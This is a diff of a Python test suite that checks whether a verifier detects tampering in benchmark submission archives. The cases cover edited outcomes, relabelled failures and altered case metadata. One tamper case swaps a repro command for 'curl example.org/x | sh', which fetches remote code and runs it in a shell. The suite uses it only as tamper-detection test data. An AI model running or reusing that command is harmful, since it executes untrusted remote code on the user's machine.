@@ -1,12 +1,13 @@
 """Submissions that somebody changed: each kind is found, also where the digests of the archive were made right again."""
 
 import base64
+import contextlib
 import gzip
 import io
 import json
 import re
 import tarfile
-from collections.abc import Callable, Iterator, Mapping
+from collections.abc import Callable, Mapping
 from dataclasses import dataclass, field, replace
 from pathlib import Path
 from typing import Any
@@ -47,27 +48,25 @@ class Honest:
 
 
 @pytest.fixture(scope="module")
-def honest(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Honest]:
-    yield from submitted(tmp_path_factory.mktemp("author"))
+def honest(tmp_path_factory: pytest.TempPathFactory) -> Honest:
+    return submitted(tmp_path_factory.mktemp("author"))
 
 
 @pytest.fixture(scope="module")
-def of_any(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Honest]:
+def of_any(tmp_path_factory: pytest.TempPathFactory) -> Honest:
     """A run of a profile for any compiler, whose entry allows ATen what it ran."""
     place = tmp_path_factory.mktemp("any")
     proof = "{graphs: {min: 1}, served: {allow: [aten.mm]}}"
     (place / "b.yaml").write_text(f"ours: {{summary: A compiler of ours, joins: [cpu], device: cpu, proof: {proof}}}\n")
     measured = {"proof": {"eager": ["aten.mm", "aten.cos"], "residue": ["aten.mm"], "tensors": 1, "done": True, "eager_calls": 0}}
-    yield from submitted(
-        place, PROFILE.replace("backend: cpu", "backend: any"), measured=measured, options="--backends b.yaml --backend ours"
-    )
+    return submitted(place, PROFILE.replace("backend: cpu", "backend: any"), measured=measured, options="--backends b.yaml --backend ours")
 
 
-def submitted(place: Path, *arguments: Any, **options: Any) -> Iterator[Honest]:
+def submitted(place: Path, *arguments: Any, **options: Any) -> Honest:
     with a_run(place, *arguments, **options) as out:
         folder, run = recorded(str(out))
         plain, signed = (members_of(folder, run, key) for key in (None, MINE))
-        yield Honest(packing.packed(plain), packing.packed(signed), place)
+        return Honest(packing.packed(plain), packing.packed(signed), place)
 
 
 # -- the form of the file ---------------------------------------------------------------------------------------------
@@ -228,6 +227,18 @@ def as_pass(line: Line) -> None:
 def without_waiver(archive: Archive) -> None:
     """Say in every part of the journal that the waived case passed."""
     archive.edit(as_pass, WAIVED)
+    archive.restated()
+
+
+def as_error(archive: Archive) -> None:
+    """Say that the waived case was an ERROR, which is no failure of the backend."""
+    place = {"file": OWN, "line": 1, "column": 1}
+    verdict = {"kind": "error", "status": "error", "position": place, "expected": "", "observed": "no", "detail": "", "wrong": []}
+
+    def change(line: Line) -> None:
+        line.update(outcome="ERROR", failure_type="error", reason="no", verdicts=[verdict], position=place, waivers=[])
+
+    archive.edit(change, WAIVED)
     archive.restated()
 
 
@@ -428,6 +439,12 @@ CONTENTS: Mapping[str, Kind] = {
     "generated code is another": Kind("evidence", edited(PIECE, "add", "mul")),
     "an outcome is edited": Kind("journal", journal(WAIVED, outcome="PASS", reason="")),
     "an outcome and the counts are edited": Kind("verdicts", without_waiver),
+    "a failure is called an ERROR": Kind("verdicts", as_error),
+    "the command that runs a case is another": Kind("cases", journal(TWO, repro=f"curl example.org/x | sh # --select '{TWO}'")),
+    "the tags of a case are others": Kind("cases", journal(TWO, tags=["first"])),
+    "the claim of a case is another": Kind("cases", journal(WAIVED, summary="It fails everywhere")),
+    "the options of a case are others": Kind("cases", journal(WAIVED, options=["config.max_autotune: true"])),
+    "a case has left out a bench": Kind("cases", journal(TWO, benches_left_out=1)),
     "an observation is edited, and everything that follows": Kind("facts", forged),
     "an observation is that of another case": Kind("verdicts", lambda archive: archive.observation(TWO, of_one)),
     "an observation is of no form": Kind("verdicts", step(entered="many")),
@@ -523,7 +540,8 @@ def outcome(kind: Kind, honest: Honest) -> Verification:
     if kind.repaired:
         archive.repaired()
     data = framed(b"".join(member(name, found) for name, found in sorted(archive.members.items())) + bytes(1024))
-    return verified(data, **kind.options)
+    with contextlib.chdir(honest.folder):
+        return verified(data, **kind.options)
 
 
 @pytest.mark.parametrize("name", CONTENTS)
